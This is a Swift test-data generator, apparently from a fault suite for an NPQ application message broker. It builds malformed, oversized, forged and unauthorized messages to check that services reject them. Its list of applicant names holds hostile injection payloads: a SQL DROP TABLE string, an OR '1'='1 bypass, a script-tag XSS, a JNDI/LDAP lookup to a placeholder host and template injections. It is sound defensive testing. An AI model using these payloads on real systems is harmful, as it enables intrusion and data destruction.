import AMQP
import Foundation
import MessageContracts

/// Generates the hostile messages of the fault suite: what an integrator's bug or an attacker could publish straight
/// to `npq.commands` with a routing key its broker user may use. Deterministic: the same seed gives the same bytes.
struct HostileInput {
    /// What a hostile message tries, and what the suite must do with it.
    enum Kind: String, CaseIterable, Sendable, Codable {
        case randomBytes = "random bytes"
        case badEnvelope = "message id not a UUID"
        case truncatedJSON = "truncated JSON"
        case deeplyNested = "deeply nested JSON"
        case wrongTypes = "wrong JSON types"
        case missingFields = "missing fields"
        case extraFields = "unknown extra fields"
        case oversized = "5 MB body"
        case unknownType = "unknown message type"
        case unknownVersion = "unknown version"
        case invalidUTF8 = "invalid UTF-8"
        case impossibleDate = "impossible date (2024-02-30)"
        case injectionNames = "SQL and template injection in names"
        case forgedUserID = "forged user_id"
        case otherProvidersApplication = "a provider acting on another's application"

        /// How many of the 10,000.
        var share: Int {
            switch self {
            case .randomBytes: 1_180
            case .badEnvelope: 300
            case .truncatedJSON: 1_000
            case .deeplyNested: 500
            case .wrongTypes: 1_000
            case .missingFields: 1_000
            case .extraFields: 1_000
            case .oversized: 20
            case .unknownType: 800
            case .unknownVersion: 700
            case .invalidUTF8: 800
            case .impossibleDate: 600
            case .injectionNames: 400
            case .forgedUserID: 100
            case .otherProvidersApplication: 600
            }
        }

        /// The reason a service must give when it parks one (`nil`: not parked).
        var expectedReason: RejectionReason? {
            switch self {
            case .randomBytes, .truncatedJSON, .deeplyNested, .invalidUTF8: .undecodable
            case .badEnvelope, .wrongTypes, .missingFields, .extraFields, .impossibleDate: .invalidFields
            case .oversized: .tooLarge
            case .unknownType, .unknownVersion: .unknownType
            case .otherProvidersApplication: .unauthorized
            case .injectionNames, .forgedUserID: nil
            }
        }

        /// Whether the suite must accept it as valid data (stored and shown verbatim, never interpreted) rather than
        /// park it.
        var isValidData: Bool { self == .injectionNames }
        /// Whether the broker itself refuses it, before any service sees it.
        var isRefusedByBroker: Bool { self == .forgedUserID }
    }

    /// Who publishes a hostile message.
    enum Sender: Sendable {
        case registration
        case schoolMIS
        /// The lead provider `teach-first` (the other provider's applications are `ambition-institute`'s).
        case provider
    }

    struct Message: Sendable {
        let kind: Kind
        let sender: Sender
        let amqp: AMQPMessage
        var id: String { amqp.properties.messageID ?? "" }
    }

    private var random: SplitMix64

    init(seed: UInt64) {
        random = SplitMix64(seed: seed)
    }

    /// The names the injection messages carry, one of which each uses.
    static let injectionNames = [
        "Robert'); DROP TABLE applications_application;--",
        "x' OR '1'='1",
        "{{#applicantName}}{{/applicantName}}{{{applicantName}}}",
        "<script>alert('npq')</script>",
        "${jndi:ldap://example.invalid/a}",
        "{{> partial}} {{=<% %>=}}",
        "O'Brien \"quoted\" \\ backslash",
        "Zoë Ünïcödé 🙂",
    ]

    /// The valid `application.submit` body the mutations start from.
    func validSubmit(cohort: String, email: String, name: String = "Hostile Applicant") -> JSONValue {
        [
            "applicant": ["fullName": .string(name), "email": .string(email)],
            "course": "npq-headship", "leadProvider": "teach-first", "cohort": .string(cohort),
            "workplace": ["worksIn": "england", "workSetting": "a_school", "institution": ["urn": "100103"]],
        ]
    }

    /// All 10,000, in a shuffled order; `otherApplications` are applications of `ambition-institute` the provider
    /// `teach-first` tries to accept; `users` are the senders' broker users.
    mutating func messages(
        cohort: String, otherApplications: [UUID], users: (registration: String, mis: String, provider: String),
        forgedAs: String
    ) -> [Message] {
        var messages: [Message] = []
        var number = 0
        for kind in Kind.allCases {
            for _ in 0..<kind.share {
                number += 1
                messages.append(
                    make(
                        kind, number: number, cohort: cohort, otherApplications: otherApplications, users: users,
                        forgedAs: forgedAs))
            }
        }
        messages.shuffle(using: &random)
        return messages
    }

    private mutating func make(
        _ kind: Kind, number: Int, cohort: String, otherApplications: [UUID],
        users: (registration: String, mis: String, provider: String), forgedAs: String
    ) -> Message {
        let email = "hostile.\(number)@example.sch.uk"
        let valid = validSubmit(cohort: cohort, email: email)
        var type = ApplicationSubmit.typeName
        var routingKey = ApplicationSubmit.routingKey
        var sender = Sender.registration
        var userID = users.registration
        let body: Data
        switch kind {
        case .randomBytes:
            body = Data(
                (0..<Int.random(in: 0...2_000, using: &random)).map { _ in UInt8.random(in: 0...255, using: &random) })
        case .badEnvelope:
            body = Data(valid.jsonString().utf8)
        case .truncatedJSON:
            let full = Array(valid.jsonString().utf8)
            body = Data(full.prefix(Int.random(in: 0..<full.count, using: &random)))
        case .deeplyNested:
            let depth = Int.random(in: 1_000...200_000, using: &random)
            body = Data((String(repeating: "[", count: depth) + String(repeating: "]", count: depth)).utf8)
        case .wrongTypes:
            // Every leaf of the valid body is a string: anything but a string is the wrong type for it.
            let replacements: [JSONValue] = [42, true, .null, [1, 2], ["nested": "object"], 1e308, -0.0]
            body = Data(
                valid.replacing(path: randomPath(in: valid), with: replacements.randomElement(using: &random)!)
                    .jsonString().utf8)
        case .missingFields:
            body = Data(valid.removing(path: randomPath(in: valid)).jsonString().utf8)
        case .extraFields:
            body = Data(
                valid.adding(
                    field: "unexpected\(Int.random(in: 0...999, using: &random))", at: randomObjectPath(in: valid)
                ).jsonString().utf8)
        case .oversized:
            let name = String(repeating: "A", count: 5 * 1024 * 1024)
            body = Data(validSubmit(cohort: cohort, email: email, name: name).jsonString().utf8)
        case .unknownType:
            type = "npq.application.explode.v1"
            body = Data(valid.jsonString().utf8)
        case .unknownVersion:
            type = "npq.application.submit.v\(Int.random(in: 2...99, using: &random))"
            body = Data(valid.jsonString().utf8)
        case .invalidUTF8:
            var bytes = Array(valid.jsonString().utf8)
            let bad: [[UInt8]] = [[0xC3, 0x28], [0xFF], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0x80]]
            // Inside the applicant's name: still JSON in shape, not text.
            if let at = bytes.indices.first(where: { Array(bytes[$0...].prefix(8)) == Array("Hostile ".utf8) }) {
                bytes.insert(contentsOf: bad.randomElement(using: &random)!, at: at + 8)
            }
            body = Data(bytes)
        case .impossibleDate:
            type = SENCOAppointmentRecord.typeName
            routingKey = SENCOAppointmentRecord.routingKey
            sender = .schoolMIS
            userID = users.mis
            let dates = ["2024-02-30", "2023-02-29", "2025-13-01", "2025-04-31", "2025-00-10", "0000-01-01"]
            let record: JSONValue = [
                "schoolURN": "100101", "schoolType": "mainstream",
                "person": [
                    "name": .string("Hostile SENCO \(number)"),
                    "email": .string("hostile.senco.\(number)@example.sch.uk"),
                ],
                "appointedOn": .string(dates.randomElement(using: &random)!),
            ]
            body = Data(record.jsonString().utf8)
        case .injectionNames:
            let name = Self.injectionNames[number % Self.injectionNames.count]
            body = Data(
                validSubmit(cohort: cohort, email: "injection.\(number)@example.sch.uk", name: name).jsonString().utf8)
        case .forgedUserID:
            userID = forgedAs
            body = Data(valid.jsonString().utf8)
        case .otherProvidersApplication:
            type = ApplicationAccept.typeName
            routingKey = ApplicationAccept.routingKey
            sender = .provider
            userID = users.provider
            let id = otherApplications.isEmpty ? UUID() : otherApplications.randomElement(using: &random)!
            body = Data(JSONValue.object(["applicationID": .string(id.uuidString.lowercased())]).jsonString().utf8)
        }
        // Message ids are UUIDs, as the envelope requires, with the message's number in the last group — except where
        // the id itself is what is wrong.
        let id = kind == .badEnvelope ? "hostile-\(number)" : Self.id(number)
        let properties = AMQPProperties(
            contentType: "application/json", deliveryMode: .persistent, correlationID: id, messageID: id,
            timestamp: Date(), type: type, userID: userID, appID: "fault-suite")
        return Message(
            kind: kind, sender: sender,
            amqp: AMQPMessage(
                exchange: Topology.commandsExchange, routingKey: routingKey, body: body, properties: properties))
    }

    /// The message id of hostile message `number`.
    static func id(_ number: Int) -> String {
        "00000000-0000-4000-8000-" + String(format: "%012d", number)
    }

    /// The number in a message id ``id(_:)`` made, or in `hostile-<number>`.
    static func number(inID id: String) -> Int? {
        if id.hasPrefix("hostile-") { return Int(id.dropFirst("hostile-".count)) }
        guard id.hasPrefix("00000000-0000-4000-8000-") else { return nil }
        return Int(id.suffix(12))
    }

    private mutating func randomPath(in value: JSONValue) -> [String] {
        let paths = value.leafPaths()
        return paths.randomElement(using: &random) ?? []
    }

    private mutating func randomObjectPath(in value: JSONValue) -> [String] {
        let paths = value.objectPaths()
        return paths.randomElement(using: &random) ?? []
    }
}

/// A small, fast, seedable generator (SplitMix64), so that a failing hostile message can be made again.
struct SplitMix64: RandomNumberGenerator {
    private var state: UInt64
    init(seed: UInt64) { state = seed }
    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}

extension JSONValue {
    /// The paths of every value that is not an object, through objects only.
    func leafPaths(_ prefix: [String] = []) -> [[String]] {
        guard case .object(let fields) = self else { return [prefix] }
        // In key order: a dictionary's order changes from run to run, and the seed must give the same messages.
        return fields.sorted { $0.key < $1.key }.flatMap { $0.value.leafPaths(prefix + [$0.key]) }
    }

    /// The paths of every object, this one first.
    func objectPaths(_ prefix: [String] = []) -> [[String]] {
        guard case .object(let fields) = self else { return [] }
        return [prefix] + fields.sorted { $0.key < $1.key }.flatMap { $0.value.objectPaths(prefix + [$0.key]) }
    }

    func replacing(path: [String], with value: JSONValue) -> JSONValue {
        guard let first = path.first else { return value }
        guard case .object(var fields) = self else { return self }
        fields[first] = (fields[first] ?? .null).replacing(path: Array(path.dropFirst()), with: value)
        return .object(fields)
    }

    func removing(path: [String]) -> JSONValue {
        guard let first = path.first, case .object(var fields) = self else { return self }
        if path.count == 1 {
            fields[first] = nil
        } else {
            fields[first] = fields[first]?.removing(path: Array(path.dropFirst()))
        }
        return .object(fields)
    }

    func adding(field: String, at path: [String]) -> JSONValue {
        guard case .object(var fields) = self else { return self }
        if let first = path.first {
            fields[first] = fields[first]?.adding(field: field, at: Array(path.dropFirst()))
        } else {
            fields[field] = .string("surprise")
        }
        return .object(fields)
    }
}
